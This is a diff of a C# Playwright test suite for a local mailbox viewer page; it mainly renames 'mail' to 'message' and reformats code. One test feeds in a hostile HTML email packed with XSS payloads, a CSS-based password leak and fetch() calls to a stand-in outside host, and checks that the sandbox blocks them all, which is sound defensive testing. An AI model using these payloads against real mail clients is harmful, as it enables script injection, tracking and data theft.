@@ -6,25 +6,31 @@ public class MailboxPageTests
 {
     private const string Newsletter = """
         <html><body style="margin:0;background:#f0f2f5;font-family:Georgia,serif">
-        <table width="100%" cellpadding="0"><tr><td align="center"><table width="560" style="max-width:100%;background:#fff;margin:24px;border-radius:8px">
+        <table width="100%" cellpadding="0"><tr><td align="center">
+        <table width="560" style="max-width:100%;background:#fff;margin:24px;border-radius:8px">
         <tr><td style="background:#12355b;color:#fff;padding:28px;font-size:26px">Autumn at the shop</td></tr>
-        <tr><td style="padding:28px;line-height:1.6"><img src="cid:logo" width="64" height="64" alt="Logo"><p>Dear Ann,</p><p>the new <b>tea</b> has arrived. 請求書 is attached.</p>
-        <p><a href="https://shop.example.com/confirm?x=1" style="background:#12355b;color:#fff;padding:12px 20px;border-radius:6px;text-decoration:none">Confirm your address</a></p></td></tr></table></td></tr></table></body></html>
+        <tr><td style="padding:28px;line-height:1.6">
+        <img src="cid:logo" width="64" height="64" alt="Logo"><p>Dear Ann,</p>
+        <p>the new <b>tea</b> has arrived. 請求書 is attached.</p>
+        <p><a href="https://shop.example.com/confirm?x=1"
+        style="background:#12355b;color:#fff;padding:12px 20px;border-radius:6px;text-decoration:none">Confirm your address</a></p>
+        </td></tr></table></td></tr></table></body></html>
         """;
 
     // A red dot.
-    private static readonly byte[] Logo = Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==");
+    private static readonly byte[] Logo = Convert.FromBase64String(
+        "iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==");
 
     [Fact]
-    public async Task Mails_appear_as_they_come()
+    public async Task Messages_appear_as_they_arrive()
     {
         await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
         await Assertions.Expect(mailbox.Page.Locator("#empty")).ToBeVisibleAsync();
 
         mailbox.Receive("First", "Hello");
-        await Assertions.Expect(mailbox.Mail("First")).ToBeVisibleAsync();
+        await Assertions.Expect(mailbox.Message("First")).ToBeVisibleAsync();
         mailbox.Receive("Second", "Hello");
-        await Assertions.Expect(mailbox.Page.Locator("#mails li").First).ToContainTextAsync("Second");
+        await Assertions.Expect(mailbox.Page.Locator("#messages li").First).ToContainTextAsync("Second");
 
         await Assertions.Expect(mailbox.Page.Locator("#empty")).ToBeHiddenAsync();
         Assert.Equal("(2) Mailbox", await mailbox.Page.TitleAsync());
@@ -32,11 +38,13 @@ public class MailboxPageTests
     }
 
     [Fact]
-    public async Task A_mail_shows_its_parts()
+    public async Task The_page_shows_the_parts_of_a_message()
     {
         await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
-        mailbox.Receive("Autumn", "Dear {{name}}, tea", Newsletter, "ann@example.org", MailAttachment.FromBytes(Logo, "logo.png", cid: "logo"), MailAttachment.FromBytes([1, 2, 3], "請求書.pdf"));
-        await mailbox.OpenMailAsync("Autumn");
+        mailbox.Receive(
+            "Autumn", "Dear {{name}}, tea", Newsletter, "ann@example.org",
+            MailAttachment.FromBytes(Logo, "logo.png", cid: "logo"), MailAttachment.FromBytes([1, 2, 3], "請求書.pdf"));
+        await mailbox.OpenMessageAsync("Autumn");
         var page = mailbox.Page;
 
         var frame = page.FrameLocator("iframe");
@@ -52,19 +60,19 @@ public class MailboxPageTests
         var download = await page.RunAndWaitForDownloadAsync(() => page.GetByText("請求書.pdf").ClickAsync());
         Assert.Equal("請求書.pdf", download.SuggestedFilename);
         Assert.Equal([1, 2, 3], await File.ReadAllBytesAsync(await download.PathAsync(), TestContext.Current.CancellationToken));
-        await page.Locator("#tabFindings").ClickAsync();
+        await page.Locator("#tabDiagnostics").ClickAsync();
         await Assertions.Expect(page.Locator("#pane")).ToContainTextAsync("placeholder");
         await Assertions.Expect(page.Locator("#facts")).ToContainTextAsync("bounces@example.com → ann@example.org");
         Assert.Empty(mailbox.Errors);
     }
 
     [Fact]
-    public async Task The_keyboard_is_enough()
+    public async Task The_page_can_be_used_by_keyboard_alone()
     {
         await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
         foreach (var subject in new[] { "One", "Two", "Three" })
             mailbox.Receive(subject, "text", "<p>html</p>");
-        await Assertions.Expect(mailbox.Page.Locator("#mails li")).ToHaveCountAsync(3);
+        await Assertions.Expect(mailbox.Page.Locator("#messages li")).ToHaveCountAsync(3);
         var (page, subjectShown) = (mailbox.Page, mailbox.Page.Locator("#subject"));
 
         await page.Keyboard.PressAsync("j");
@@ -79,24 +87,24 @@ public class MailboxPageTests
         await page.Keyboard.PressAsync("2");
         await Assertions.Expect(page.Locator("#tabText")).ToHaveAttributeAsync("aria-selected", "true");
         await page.Keyboard.PressAsync("d");
-        await Assertions.Expect(page.Locator("#mails li")).ToHaveCountAsync(2);
+        await Assertions.Expect(page.Locator("#messages li")).ToHaveCountAsync(2);
         await Assertions.Expect(subjectShown).ToHaveTextAsync("Two");
         await page.Keyboard.PressAsync("/");
         await page.Keyboard.TypeAsync("one");
-        await Assertions.Expect(page.Locator("#mails li")).ToHaveCountAsync(1);
+        await Assertions.Expect(page.Locator("#messages li")).ToHaveCountAsync(1);
         await page.Keyboard.PressAsync("Enter");
         await Assertions.Expect(subjectShown).ToHaveTextAsync("One");
         await page.Keyboard.PressAsync("?");
         await Assertions.Expect(page.Locator("#help")).ToBeVisibleAsync();
         await page.Keyboard.PressAsync("Escape");
         await page.Keyboard.PressAsync("Escape");
-        await Assertions.Expect(page.Locator("#mail")).ToBeHiddenAsync();
+        await Assertions.Expect(page.Locator("#message")).ToBeHiddenAsync();
         Assert.Equal(2, mailbox.Store.Count);
         Assert.Empty(mailbox.Errors);
     }
 
     [Fact]
-    public async Task A_hostile_mail_does_nothing()
+    public async Task A_hostile_message_can_do_nothing()
     {
         await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
         var (page, elsewhere) = (mailbox.Page, mailbox.Elsewhere);
@@ -104,75 +112,98 @@ public class MailboxPageTests
             <html><head>
             <base href="{{elsewhere}}/base/" target="_top">
             <meta http-equiv="refresh" content="0;url={{elsewhere}}/refresh">
-            <link rel="stylesheet" href="{{elsewhere}}/style.css"><link rel="preload" as="image" href="{{elsewhere}}/preload"><link rel="prefetch" href="{{elsewhere}}/prefetch">
-            <style>@import url({{elsewhere}}/import.css); @font-face { font-family: f; src: url({{elsewhere}}/font) } body { font-family: f; background: url({{elsewhere}}/background) }
-              input[value^="s"] { background: url({{elsewhere}}/leak-s) } #cover { position: fixed; inset: 0; z-index: 999999; pointer-events: none }</style>
+            <link rel="stylesheet" href="{{elsewhere}}/style.css">
+            <link rel="preload" as="image" href="{{elsewhere}}/preload"><link rel="prefetch" href="{{elsewhere}}/prefetch">
+            <style>@import url({{elsewhere}}/import.css); @font-face { font-family: f; src: url({{elsewhere}}/font) }
+              body { font-family: f; background: url({{elsewhere}}/background) }
+              input[value^="s"] { background: url({{elsewhere}}/leak-s) }
+              #cover { position: fixed; inset: 0; z-index: 999999; pointer-events: none }</style>
             </head><body onload="top.hacked=1" background="{{elsewhere}}/body">
             <script>top.hacked = 1; parent.hacked = 1; fetch("{{elsewhere}}/script");</script>
-            <img src="x" onerror="top.hacked=1; fetch('{{elsewhere}}/onerror')"><img src="{{elsewhere}}/pixel.gif" srcset="{{elsewhere}}/pixel2.gif 2x"><picture><source srcset="{{elsewhere}}/picture"><img></picture>
-            <svg onload="top.hacked=1"><script>top.hacked=1</script><image href="{{elsewhere}}/svg"/><use href="{{elsewhere}}/use#a"/></svg><math><mtext><mglyph><style><img src=x onerror=top.hacked=1></style></mglyph></mtext></math>
-            <iframe src="{{elsewhere}}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe><object data="{{elsewhere}}/object"></object><embed src="{{elsewhere}}/embed">
-            <video src="{{elsewhere}}/video" autoplay poster="{{elsewhere}}/poster"></video><audio src="{{elsewhere}}/audio" autoplay></audio>
-            <form id="f" action="{{elsewhere}}/form" target="_top"><input name="password" value="secret" autofocus onfocus="top.hacked=1"><button id="send">Send</button></form>
-            <a id="top" href="{{elsewhere}}/top" target="_top">top</a> <a id="js" href="java&#10;script:top.hacked=1">js</a> <a id="parent" href="{{elsewhere}}/parent" target="_parent">parent</a>
-            <div id="cover"></div><div style="background-image:url('{{elsewhere}}/inline')">inline</div><table background="{{elsewhere}}/table"><tr><td>end of the mail</td></tr></table>
+            <img src="x" onerror="top.hacked=1; fetch('{{elsewhere}}/onerror')">
+            <img src="{{elsewhere}}/pixel.gif" srcset="{{elsewhere}}/pixel2.gif 2x">
+            <picture><source srcset="{{elsewhere}}/picture"><img></picture>
+            <svg onload="top.hacked=1"><script>top.hacked=1</script><image href="{{elsewhere}}/svg"/><use href="{{elsewhere}}/use#a"/></svg>
+            <math><mtext><mglyph><style><img src=x onerror=top.hacked=1></style></mglyph></mtext></math>
+            <iframe src="{{elsewhere}}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
+            <object data="{{elsewhere}}/object"></object><embed src="{{elsewhere}}/embed">
+            <video src="{{elsewhere}}/video" autoplay poster="{{elsewhere}}/poster"></video>
+            <audio src="{{elsewhere}}/audio" autoplay></audio>
+            <form id="f" action="{{elsewhere}}/form" target="_top">
+            <input name="password" value="secret" autofocus onfocus="top.hacked=1"><button id="send">Send</button></form>
+            <a id="top" href="{{elsewhere}}/top" target="_top">top</a> <a id="js" href="java&#10;script:top.hacked=1">js</a>
+            <a id="parent" href="{{elsewhere}}/parent" target="_parent">parent</a>
+            <div id="cover"></div><div style="background-image:url('{{elsewhere}}/inline')">inline</div>
+            <table background="{{elsewhere}}/table"><tr><td>end of the message</td></tr></table>
             </body></html>
             """);
-        await mailbox.Page.Locator("#mails li").First.ClickAsync();
+        await mailbox.Page.Locator("#messages li").First.ClickAsync();
         var frame = page.FrameLocator("iframe");
-        await Assertions.Expect(frame.GetByText("end of the mail")).ToBeVisibleAsync();
+        await Assertions.Expect(frame.GetByText("end of the message")).ToBeVisibleAsync();
         await frame.Locator("#send").ClickAsync();
         foreach (var link in new[] { "#top", "#js", "#parent" })
             await frame.Locator(link).ClickAsync(new() { Modifiers = [] });
-        foreach (var tab in new[] { "Text", "Headers", "Source", "Attachments", "Findings", "HTML" })
+        foreach (var tab in new[] { "Text", "Headers", "Source", "Attachments", "Diagnostics", "HTML" })
             await page.Locator($"#tab{tab}").ClickAsync();
-        await Assertions.Expect(frame.GetByText("end of the mail")).ToBeVisibleAsync();
+        await Assertions.Expect(frame.GetByText("end of the message")).ToBeVisibleAsync();
 
         Assert.Equal(mailbox.Url + "/", page.Url);
         Assert.Null(await page.EvaluateAsync<object?>("window.hacked ?? null"));
-        // The two links that were clicked open windows of their own; nothing else has ever left the page.
-        Assert.All(mailbox.AskedElsewhere, path => Assert.Contains(path, new[] { "/top", "/parent", "/favicon.ico" }));
+        // The two links that were clicked open their own windows; the page has sent no other request.
+        Assert.All(mailbox.RequestsElsewhere, path => Assert.Contains(path, new[] { "/top", "/parent", "/favicon.ico" }));
         Assert.True(await page.Locator("iframe").EvaluateAsync<bool>("f => f.contentDocument === null"));
-        Assert.All(page.Context.Pages.Where(p => p != page), p => Assert.False(p.EvaluateAsync<bool>("window.opener !== null").GetAwaiter().GetResult()));
+        foreach (var window in page.Context.Pages.Where(p => p != page))
+            Assert.False(await window.EvaluateAsync<bool>("window.opener !== null"));
         await Assertions.Expect(page.Locator("#subject")).ToHaveTextAsync("<img src=x onerror=\"top.hacked=1\">");
         Assert.Empty(mailbox.Errors);
     }
 
     [Fact]
-    public async Task A_mail_opened_outside_the_frame_is_held_by_its_own_policy()
+    public async Task A_message_opened_outside_the_frame_is_restricted_by_its_own_policy()
     {
         await using var mailbox = await MailboxPage.OpenAsync(1200, 800);
-        mailbox.Receive("Alone", null, $"<script>document.title='hacked'</script><img src=\"{mailbox.Elsewhere}/pixel\"><svg><a xlink:href=\"javascript:1\"><text>x</text></a></svg><p onclick=\"x\">alone</p>");
+        mailbox.Receive("Alone", null, $"""
+            <script>document.title='hacked'</script>
+            <img src="{mailbox.Elsewhere}/pixel">
+            <svg><a xlink:href="javascript:1"><text>x</text></a></svg>
+            <p onclick="x">alone</p>
+            """);
 
-        await mailbox.Page.GotoAsync($"{mailbox.Url}/mails/1/html");
+        await mailbox.Page.GotoAsync($"{mailbox.Url}/messages/1/html");
 
         await Assertions.Expect(mailbox.Page.GetByText("alone")).ToBeVisibleAsync();
         Assert.NotEqual("hacked", await mailbox.Page.TitleAsync());
         Assert.Equal("null", await mailbox.Page.EvaluateAsync<string>("window.origin"));
-        Assert.Empty(mailbox.AskedElsewhere);
+        Assert.Empty(mailbox.RequestsElsewhere);
     }
 
     [Theory]
     [InlineData(1280, 800, false, "desktop")]
     [InlineData(390, 844, false, "phone")]
     [InlineData(1280, 800, true, "dark")]
-    public async Task It_fits_the_screen(int width, int height, bool dark, string name)
+    public async Task The_page_fits_the_screen(int width, int height, bool dark, string name)
     {
         await using var mailbox = await MailboxPage.OpenAsync(width, height, dark);
         mailbox.Receive("Your order 4711 has been sent", "It is on its way.");
-        mailbox.Receive("Reset your password", "Somebody, hopefully you, has asked for a new password. If it was not you, there is nothing to do.", null, "bob@example.net");
-        mailbox.Receive("Autumn at the shop: 請求書", "Dear Ann, the new tea has arrived.", Newsletter, "ann@example.org", MailAttachment.FromBytes(Logo, "logo.png", cid: "logo"), MailAttachment.FromBytes(new byte[48_213], "Invoice 4711.pdf"));
-        await Assertions.Expect(mailbox.Page.Locator("#mails li")).ToHaveCountAsync(3);
+        mailbox.Receive(
+            "Reset your password", "You have requested a new password. If it was not you, you can ignore this email.",
+            null, "bob@example.net");
+        mailbox.Receive(
+            "Autumn at the shop: 請求書", "Dear Ann, the new tea has arrived.", Newsletter, "ann@example.org",
+            MailAttachment.FromBytes(Logo, "logo.png", cid: "logo"), MailAttachment.FromBytes(new byte[48_213], "Invoice 4711.pdf"));
+        await Assertions.Expect(mailbox.Page.Locator("#messages li")).ToHaveCountAsync(3);
         var folder = Path.Combine(AppContext.BaseDirectory, "screenshots");
         await mailbox.Page.ScreenshotAsync(new() { Path = Path.Combine(folder, $"{name}-list.png") });
         Assert.True(await FitsAsync());
 
-        await mailbox.OpenMailAsync("Autumn at the shop: 請求書");
+        await mailbox.OpenMessageAsync("Autumn at the shop: 請求書");
         await Assertions.Expect(mailbox.Page.FrameLocator("iframe").GetByText("Confirm your address")).ToBeVisibleAsync();
         await mailbox.Page.ScreenshotAsync(new() { Path = Path.Combine(folder, $"{name}-mail.png") });
         Assert.True(await FitsAsync());
         Assert.True((await mailbox.Page.Locator("iframe").BoundingBoxAsync())!.Height > 300);
 
-        Task<bool> FitsAsync() => mailbox.Page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= innerWidth && document.documentElement.scrollHeight <= innerHeight");
+        Task<bool> FitsAsync() => mailbox.Page.EvaluateAsync<bool>("""
+            document.documentElement.scrollWidth <= innerWidth && document.documentElement.scrollHeight <= innerHeight
+            """);
     }
 }
